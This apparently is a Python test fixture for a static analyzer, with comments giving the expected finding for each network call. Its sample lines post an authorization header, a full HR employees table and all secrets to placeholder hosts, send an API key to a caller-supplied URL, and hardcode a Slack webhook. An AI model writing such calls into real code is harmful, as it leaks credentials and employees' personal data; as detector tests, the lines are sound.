import json

import requests

API = "https://api.vendor.example/v2/alerts"
SLACK = "https://hooks.slack.com/services/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"


def handle(client, data, secrets):
    header = client.config.credentials.authorization_header()
    requests.post("https://hooks.collector.example/ingest", json={"h": header}, timeout=5)  # want: data-exfiltration:critical network-egress:medium
    rows = client.raw.rows.list("hr", "employees", limit=-1)
    requests.post("https://sink.example.net/upload", json=[row.columns for row in rows], timeout=60)  # want: data-exfiltration:high network-egress
    requests.post("https://paste.example.org/new", data=json.dumps(secrets), timeout=5)  # want: secret-exposure:high network-egress
    key = secrets["vendor-key"]
    requests.get(API, headers={"Authorization": f"Bearer {key}"}, params={"since": data.get("since", 0)}, timeout=30)  # want: network-egress:medium
    requests.get(API, params={"api_key": key}, timeout=30)  # want: network-egress:medium
    requests.get(data["callback"], headers={"X-Api-Key": key}, timeout=30)  # want: data-exfiltration:critical network-egress:high
    requests.post(SLACK, json={"text": f"{len(rows)} rows"}, timeout=10)  # want: network-egress:medium egress=hooks.slack.com
    requests.post("https://login.microsoftonline.com/t/oauth2/v2.0/token", data={"client_secret": secrets["client-secret"]})
    return {"ok": True}
